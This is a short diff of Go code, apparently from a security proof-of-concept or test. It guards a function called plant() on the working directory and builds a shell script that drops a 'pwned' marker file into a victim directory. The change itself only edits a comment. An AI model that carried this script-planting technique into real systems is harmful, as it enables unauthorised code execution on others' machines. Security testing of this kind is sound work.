@@ -14,7 +14,7 @@ import (
 func plant() {
 	copied, _ := os.Getwd()
 	if !strings.Contains(copied, "/pawl/work/") {
-		return // whoever runs this as it is
+		return // the one who runs this as it is
 	}
 	w := work()
 	pwn := "#!/bin/sh\necho pwned > " + victim + "/pwned-by-$(basename $0)\n"
